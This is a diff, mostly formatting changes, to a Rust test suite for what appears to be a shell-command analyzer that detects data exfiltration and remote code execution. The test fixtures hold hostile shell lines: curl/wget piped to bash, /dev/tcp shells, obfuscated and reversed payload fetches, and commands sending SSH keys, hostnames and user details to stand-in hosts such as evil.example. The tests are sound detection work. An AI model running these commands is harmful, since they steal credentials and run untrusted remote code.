@@ -9,7 +9,11 @@ fn an(s: &str) -> ShellAnalysis {
 fn quiet(s: &str) {
     let a = an(s);
     assert!(a.flows.is_empty(), "{s}: unexpected flows {:#?}", a.flows);
-    assert!(a.dynamic_code.is_empty(), "{s}: unexpected dynamic code {:#?}", a.dynamic_code);
+    assert!(
+        a.dynamic_code.is_empty(),
+        "{s}: unexpected dynamic code {:#?}",
+        a.dynamic_code
+    );
 }
 
 fn hosts(a: &ShellAnalysis) -> Vec<&str> {
@@ -17,7 +21,10 @@ fn hosts(a: &ShellAnalysis) -> Vec<&str> {
 }
 
 fn runs(a: &ShellAnalysis) -> Vec<(&str, &str)> {
-    a.runs.iter().map(|r| (r.interpreter.as_str(), r.path.as_str())).collect()
+    a.runs
+        .iter()
+        .map(|r| (r.interpreter.as_str(), r.path.as_str()))
+        .collect()
 }
 
 fn at(s: &str, span: telltale_facts::Span) -> &str {
@@ -39,7 +46,10 @@ fn nslookup_backtick_hostname() {
     assert_eq!(f.steps[0].what, "hostname");
     assert_eq!(at(s, f.steps[0].span), "hostname");
     assert_eq!(at(s, f.span), s);
-    assert!(a.sources.iter().any(|x| x.kind == DataKind::Hostname && x.api == "hostname"));
+    assert!(a
+        .sources
+        .iter()
+        .any(|x| x.kind == DataKind::Hostname && x.api == "hostname"));
 }
 
 #[test]
@@ -58,9 +68,15 @@ fn ssh_key_through_variable() {
     assert_eq!(f.steps[0].what, "cat $HOME/.ssh/id_rsa.pub");
     assert_eq!(at(s, f.steps[1].span), "a=$(cat $HOME/.ssh/id_rsa.pub)");
     assert!(f.steps[2].what.starts_with("curl -X POST"));
-    assert!(a.sources.iter().any(|x| x.kind == DataKind::SshKey && x.api == "~/.ssh/id_rsa.pub"));
+    assert!(a
+        .sources
+        .iter()
+        .any(|x| x.kind == DataKind::SshKey && x.api == "~/.ssh/id_rsa.pub"));
     assert!(!a.sources.iter().any(|x| x.kind == DataKind::HomeDir));
-    assert_eq!(a.endpoints[0].url.as_deref(), Some("https://nameless.herokuapp.com/p"));
+    assert_eq!(
+        a.endpoints[0].url.as_deref(),
+        Some("https://nameless.herokuapp.com/p")
+    );
 }
 
 #[test]
@@ -127,14 +143,29 @@ fn curl_pipe_sh() {
 fn other_remote_code_forms() {
     for (s, api) in [
         ("wget -O- https://a.example/x | bash", "wget | bash"),
-        ("wget -qO- https://a.example/x | sudo bash -s -- --flag", "wget | bash"),
+        (
+            "wget -qO- https://a.example/x | sudo bash -s -- --flag",
+            "wget | bash",
+        ),
         ("eval \"$(curl -fsSL https://a.example/x)\"", "eval $(curl)"),
         ("bash <(curl -s https://a.example/x)", "bash <(curl)"),
         ("source <(curl -s https://a.example/x)", "source <(curl)"),
-        ("python -c \"$(curl -s https://a.example/x.py)\"", "python -c $(curl)"),
-        ("python3 -c \"$(curl -s https://a.example/x.py)\"", "python3 -c $(curl)"),
-        ("sh -c \"$(curl -fsSL https://a.example/x)\"", "sh -c $(curl)"),
-        ("node -e \"$(curl -fsSL https://a.example/x.js)\"", "node -e $(curl)"),
+        (
+            "python -c \"$(curl -s https://a.example/x.py)\"",
+            "python -c $(curl)",
+        ),
+        (
+            "python3 -c \"$(curl -s https://a.example/x.py)\"",
+            "python3 -c $(curl)",
+        ),
+        (
+            "sh -c \"$(curl -fsSL https://a.example/x)\"",
+            "sh -c $(curl)",
+        ),
+        (
+            "node -e \"$(curl -fsSL https://a.example/x.js)\"",
+            "node -e $(curl)",
+        ),
         ("curl -s https://a.example/x | base64 -d | sh", "curl | sh"),
         ("exec 3<>/dev/tcp/1.2.3.4/80; cat <&3 | sh", "/dev/tcp | sh"),
     ] {
@@ -165,7 +196,13 @@ fn decoded_code_is_analysed() {
     assert_eq!(at(s, a.flows[0].span), "sh");
     // Reversed text, printf escapes.
     let a = an("echo 'hs | moc.elpmaxe.a//:sptth lruc' | rev | sh");
-    assert!(a.dynamic_code.iter().any(|d| d.api == "curl | sh" && d.from_network), "{:#?}", a.dynamic_code);
+    assert!(
+        a.dynamic_code
+            .iter()
+            .any(|d| d.api == "curl | sh" && d.from_network),
+        "{:#?}",
+        a.dynamic_code
+    );
     // A command name spelled with printf escapes still runs `hostname`.
     let a = an(r"H=$($(printf '\x68\x6f\x73\x74\x6e\x61\x6d\x65')); nslookup $H.x.example");
     assert!(a.flows[0].kinds.contains(DataKind::Hostname), "{:#?}", a);
@@ -173,7 +210,10 @@ fn decoded_code_is_analysed() {
 
 #[test]
 fn runs_node_script() {
-    assert_eq!(runs(&an("node preinstall.js")), vec![("node", "preinstall.js")]);
+    assert_eq!(
+        runs(&an("node preinstall.js")),
+        vec![("node", "preinstall.js")]
+    );
     let a = an("node update.js && npm install electron");
     assert_eq!(runs(&a), vec![("node", "update.js")]);
     quiet("node update.js && npm install electron");
@@ -188,13 +228,31 @@ fn runs_local_shell_script() {
     assert_eq!(runs(&an("sh ./x.sh")), vec![("sh", "x.sh")]);
     assert_eq!(runs(&an("bash x.sh arg")), vec![("sh", "x.sh")]);
     assert_eq!(runs(&an(". ./env.sh")), vec![("sh", "env.sh")]);
-    assert_eq!(runs(&an("python setup.py install")), vec![("python", "setup.py")]);
+    assert_eq!(
+        runs(&an("python setup.py install")),
+        vec![("python", "setup.py")]
+    );
     assert_eq!(runs(&an("python3 -u x.py")), vec![("python", "x.py")]);
-    assert_eq!(runs(&an("node --no-warnings ./x.js --flag")), vec![("node", "x.js")]);
-    assert_eq!(runs(&an("node --max-old-space-size=4096 x.js")), vec![("node", "x.js")]);
-    assert_eq!(runs(&an("node -r ./hook.js main.js")), vec![("node", "hook.js"), ("node", "main.js")]);
-    assert_eq!(runs(&an("node node_modules/.bin/x")), vec![("node", "node_modules/.bin/x")]);
-    assert_eq!(runs(&an("cd scripts && node post.js")), vec![("node", "scripts/post.js")]);
+    assert_eq!(
+        runs(&an("node --no-warnings ./x.js --flag")),
+        vec![("node", "x.js")]
+    );
+    assert_eq!(
+        runs(&an("node --max-old-space-size=4096 x.js")),
+        vec![("node", "x.js")]
+    );
+    assert_eq!(
+        runs(&an("node -r ./hook.js main.js")),
+        vec![("node", "hook.js"), ("node", "main.js")]
+    );
+    assert_eq!(
+        runs(&an("node node_modules/.bin/x")),
+        vec![("node", "node_modules/.bin/x")]
+    );
+    assert_eq!(
+        runs(&an("cd scripts && node post.js")),
+        vec![("node", "scripts/post.js")]
+    );
     assert_eq!(runs(&an("sh -c 'node a.js'")), vec![("node", "a.js")]);
     assert_eq!(runs(&an("./bin/x.js")), vec![("node", "bin/x.js")]);
     assert!(runs(&an("npx some-bin")).is_empty());
@@ -300,7 +358,11 @@ fn pipes_and_files() {
     assert!(a.flows[0].kinds.contains(DataKind::SecretEnv));
     let a = an("curl \"https://x.example/?h=$(hostname)&u=$(id -un)&d=$(pwd)\"");
     let k = a.flows[0].kinds;
-    assert!(k.contains(DataKind::Hostname) && k.contains(DataKind::Username) && k.contains(DataKind::WorkingDirectory));
+    assert!(
+        k.contains(DataKind::Hostname)
+            && k.contains(DataKind::Username)
+            && k.contains(DataKind::WorkingDirectory)
+    );
     let a = an("curl -s -X POST https://x.example -d \"$(uname -a)\"");
     assert!(a.flows[0].kinds.contains(DataKind::OsRelease));
     let a = an("curl -d \"e=$(git config user.email)\" https://x.example");
@@ -308,12 +370,19 @@ fn pipes_and_files() {
     let a = an("ifconfig | curl -T - https://x.example");
     assert!(a.flows[0].kinds.contains(DataKind::NetworkInterfaces));
     let a = an("for f in ~/.ssh/*; do curl -F \"k=@$f\" https://x.example; done");
-    assert!(a.flows[0].kinds.contains(DataKind::SshKey), "{:#?}", a.flows);
+    assert!(
+        a.flows[0].kinds.contains(DataKind::SshKey),
+        "{:#?}",
+        a.flows
+    );
     let a = an("scp ~/.ssh/id_rsa u@evil.example:/tmp/");
     assert_eq!(a.flows[0].sink, SinkKind::NetworkCommand);
     assert_eq!(a.flows[0].endpoints, vec!["evil.example"]);
     let a = an("U=$USER\nH=$(hostname)\ncurl https://x.example/$U/$H");
-    assert!(a.flows[0].kinds.contains(DataKind::Username) && a.flows[0].kinds.contains(DataKind::Hostname));
+    assert!(
+        a.flows[0].kinds.contains(DataKind::Username)
+            && a.flows[0].kinds.contains(DataKind::Hostname)
+    );
 }
 
 #[test]
@@ -349,7 +418,10 @@ fn heredocs() {
     let s = "node <<'EOF'\nconsole.log(require('os').hostname())\nEOF\n";
     let a = an(s);
     assert_eq!(a.inline_code.len(), 1);
-    assert_eq!(a.inline_code[0].code, "console.log(require('os').hostname())\n");
+    assert_eq!(
+        a.inline_code[0].code,
+        "console.log(require('os').hostname())\n"
+    );
     assert_eq!(at(s, a.inline_code[0].span), a.inline_code[0].code);
     let s = "curl -d @- https://x.example <<EOF\n$(hostname)\nEOF\necho done";
     let a = an(s);
@@ -364,7 +436,10 @@ fn sh_c_is_analysed_in_place() {
     assert_eq!(a.flows.len(), 1);
     let st = &a.flows[0].steps[0];
     assert_eq!(st.what, "hostname");
-    assert_eq!(&s[st.span.start as usize - 100..st.span.end as usize - 100], "hostname");
+    assert_eq!(
+        &s[st.span.start as usize - 100..st.span.end as usize - 100],
+        "hostname"
+    );
 }
 
 #[test]
@@ -410,8 +485,16 @@ fn deep_but_valid_nesting() {
     let a = an(&format!("curl -d {s} https://x.example"));
     assert!(a.flows[0].kinds.contains(DataKind::Hostname));
     // Fits the default stack of worker threads (rayon: 2 MiB) even at the depth limit.
-    let big = format!("curl -d {} https://x.example", "$(echo \"${x:-`".repeat(5000));
-    std::thread::Builder::new().stack_size(2 << 20).spawn(move || analyze_shell(&big, 0)).unwrap().join().unwrap();
+    let big = format!(
+        "curl -d {} https://x.example",
+        "$(echo \"${x:-`".repeat(5000)
+    );
+    std::thread::Builder::new()
+        .stack_size(2 << 20)
+        .spawn(move || analyze_shell(&big, 0))
+        .unwrap()
+        .join()
+        .unwrap();
 }
 
 #[test]
@@ -452,12 +535,27 @@ fn commands_built_elsewhere_carry_their_inputs() {
     assert_eq!(a.flows[0].span, span);
     assert_eq!(a.flows[0].endpoints, vec!["x.example"]);
     // What a command prints.
-    assert!(analyze_command("whoami", span, &[]).output.contains(DataKind::Username));
-    assert!(analyze_command("wmic csproduct get uuid", span, &[]).output.contains(DataKind::MachineId));
-    assert_eq!(analyze_command("curl -s https://x.example/p", span, &[]).output_from.as_deref(), Some("curl"));
+    assert!(analyze_command("whoami", span, &[])
+        .output
+        .contains(DataKind::Username));
+    assert!(analyze_command("wmic csproduct get uuid", span, &[])
+        .output
+        .contains(DataKind::MachineId));
+    assert_eq!(
+        analyze_command("curl -s https://x.example/p", span, &[])
+            .output_from
+            .as_deref(),
+        Some("curl")
+    );
     assert!(analyze_command("echo hi", span, &[]).output_from.is_none());
     // Paths the catalog and the shell know.
-    assert_eq!(crate::sensitive_path("~/.ssh/id_rsa").map(|p| p.0), Some(DataKind::SshKey));
-    assert_eq!(crate::sensitive_path("/sys/class/net/*/address").map(|p| p.0), Some(DataKind::NetworkInterfaces));
+    assert_eq!(
+        crate::sensitive_path("~/.ssh/id_rsa").map(|p| p.0),
+        Some(DataKind::SshKey)
+    );
+    assert_eq!(
+        crate::sensitive_path("/sys/class/net/*/address").map(|p| p.0),
+        Some(DataKind::NetworkInterfaces)
+    );
     assert!(crate::sensitive_path("/tmp/x").is_none());
 }
